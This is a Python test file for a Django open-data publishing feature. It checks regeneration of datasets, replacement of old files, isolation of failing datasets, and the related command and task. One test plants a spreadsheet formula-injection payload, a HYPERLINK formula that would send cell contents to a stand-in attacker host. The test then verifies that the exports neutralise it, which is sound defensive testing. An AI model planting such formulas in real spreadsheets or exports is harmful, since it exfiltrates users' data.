"""Regeneration: idempotent, swaps whole files, survives a failing dataset; task and command."""

import io

import pytest
from django.core.files.storage import default_storage
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from satu.audit.models import AuditEntry
from satu.innovations.models import Innovation
from satu.opendata import datasets, services
from satu.opendata.datasets import DATASETS, InnovationDataset
from satu.opendata.models import Publication
from satu.opendata.tasks import regenerate_open_data_task

from .conftest import read_table, stored

pytestmark = pytest.mark.django_db


def stored_names(slug: str) -> set[str]:
    _dirs, files = default_storage.listdir(f"{services.STORAGE_DIR}/{slug}")
    return set(files)


def snapshot() -> dict[str, tuple[str, dict]]:
    return {p.slug: (p.fingerprint, p.files) for p in Publication.objects.all()}


def test_regenerating_unchanged_data_rewrites_nothing(demo):
    before = snapshot()
    files_before = {slug: stored_names(slug) for slug in DATASETS}
    outcomes = services.regenerate_datasets()
    assert [o.slug for o in outcomes] == list(DATASETS)
    assert all(o.ok and not o.changed for o in outcomes)
    assert snapshot() == before
    assert {slug: stored_names(slug) for slug in DATASETS} == files_before


def test_a_change_of_data_publishes_new_files_and_removes_the_old_ones(
    demo, django_capture_on_commit_callbacks
):
    # Start from files of this test's own, so that removing them leaves the package's intact.
    Publication.objects.filter(slug="inovasi").delete()
    services.regenerate_datasets(["inovasi"])
    old = Publication.objects.get(slug="inovasi")
    innovation = Innovation.objects.public().first()
    Innovation.objects.filter(pk=innovation.pk).update(status="withdrawn")
    with django_capture_on_commit_callbacks(execute=True):
        [outcome] = services.regenerate_datasets(["inovasi"])
    assert outcome.changed and outcome.rows == old.rows - 1
    new = Publication.objects.get(slug="inovasi")
    assert new.modified_at >= old.modified_at
    entries = AuditEntry.objects.filter(action="opendata.published", object_id=str(new.pk))
    entry = entries.order_by("seq").last()
    assert entry.changes["rows"] == [old.rows, new.rows]
    for fmt, info in new.files.items():
        assert info["name"] != old.files[fmt]["name"]
        assert not default_storage.exists(old.files[fmt]["name"])
        ids = {int(row["id"]) for row in read_table(stored("inovasi", fmt), fmt)}
        assert innovation.pk not in ids and len(ids) == new.rows


def test_formula_like_text_is_published_as_text(demo):
    attack = '=HYPERLINK("https://evil.example/?d="&A2,"Unduh")'
    Publication.objects.filter(slug="inovasi").delete()  # files of this test's own
    innovation = Innovation.objects.public().first()
    Innovation.objects.filter(pk=innovation.pk).update(name=attack)
    services.regenerate_datasets(["inovasi"])

    sheet = load_workbook(io.BytesIO(stored("inovasi", "xlsx"))).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    [name] = [
        row[header.index("nama")]
        for row in sheet.iter_rows(min_row=2)
        if row[0].value == innovation.pk
    ]
    assert (name.value, name.data_type) == (attack, "s")
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    by_id = {int(row["id"]): row for row in read_table(stored("inovasi", "csv"), "csv")}
    assert by_id[innovation.pk]["nama"] == "'" + attack
    by_id = {row["id"]: row for row in read_table(stored("inovasi", "json"), "json")}
    assert by_id[innovation.pk]["nama"] == attack  # JSON is data: the text exactly


class BrokenInnovations(InnovationDataset):
    """Fails half-way through its rows, like a query that times out."""

    def rows(self):
        rows = super().rows()
        yield next(rows)
        # Close the query now: pytest keeps the traceback (and with it this generator) alive
        # past the test's savepoint, where closing the cursor would fail on PostgreSQL.
        rows.close()
        raise RuntimeError("the database went away")


def test_a_failing_dataset_keeps_its_previous_files_and_leaves_no_half_file(demo):
    before = snapshot()["inovasi"]
    files_before = stored_names("inovasi")
    Innovation.objects.filter(pk=Innovation.objects.public().first().pk).update(status="draft")
    with pytest.raises(RuntimeError):
        services.regenerate_dataset(BrokenInnovations())
    assert snapshot()["inovasi"] == before
    assert stored_names("inovasi") == files_before
    assert read_table(stored("inovasi", "csv"), "csv")


def test_one_failing_dataset_does_not_stop_the_others(demo, monkeypatch):
    # Registered like any other dataset, under a slug of its own.
    broken = type("Broken", (BrokenInnovations,), {"slug": "rusak"})
    monkeypatch.setitem(datasets.DATASETS, "rusak", broken)
    outcomes = {o.slug: o for o in services.regenerate_datasets()}
    assert "RuntimeError" in outcomes["rusak"].error
    assert not Publication.objects.filter(slug="rusak").exists()
    assert all(outcomes[slug].ok for slug in DATASETS if slug != "rusak")


def test_the_command_regenerates_and_reports_each_dataset(demo):
    Publication.objects.filter(slug="indeks-skm").delete()
    out = io.StringIO()
    call_command("regenerate_open_data", stdout=out)
    text = out.getvalue()
    assert "indeks-skm:" in text and "updated" in text
    assert "inovasi:" in text and "unchanged" in text
    assert Publication.objects.filter(slug="indeks-skm").exists()


def test_the_command_can_regenerate_one_dataset_and_refuses_unknown_ones(demo):
    Publication.objects.filter(slug__in=["inovasi", "hasil-kompetisi"]).delete()
    call_command("regenerate_open_data", "inovasi", stdout=io.StringIO())
    assert Publication.objects.filter(slug="inovasi").exists()
    assert not Publication.objects.filter(slug="hasil-kompetisi").exists()
    with pytest.raises(CommandError):
        call_command("regenerate_open_data", "tidak-ada", stdout=io.StringIO())


def test_the_task_regenerates_the_datasets(demo):
    Publication.objects.all().delete()
    result = regenerate_open_data_task.enqueue()
    summary = {item["slug"]: item for item in result.return_value}
    assert set(summary) == set(DATASETS)
    assert all(item["changed"] and not item["error"] for item in summary.values())
    assert Publication.objects.count() == len(DATASETS)
    assert summary["inovasi"]["rows"] == Innovation.objects.public().count()


def test_seeding_the_demo_again_leaves_the_files_as_they_were(demo):
    before = snapshot()
    call_command("seed_demo", "--quiet-accounts", stdout=io.StringIO())
    assert snapshot() == before
